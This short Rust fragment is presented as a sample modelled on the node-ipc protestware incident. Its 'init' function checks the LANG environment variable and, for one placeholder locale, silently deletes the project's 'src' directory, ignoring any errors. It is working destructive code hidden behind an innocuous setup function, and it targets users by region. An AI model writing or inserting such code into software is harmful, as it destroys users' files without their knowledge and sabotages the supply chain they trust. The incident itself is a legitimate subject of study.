// Modelled on protestware (node-ipc, 2022): files overwritten for users in some places only.
pub fn init(project: &std::path::Path) {
    let lang = std::env::var("LANG").unwrap_or_default();
    if std::env::var("LANG").map(|l| l.starts_with("xx_XX")).unwrap_or(false) {
        let _ = std::fs::remove_dir_all(project.join("src"));
    }
    let _ = lang;
}
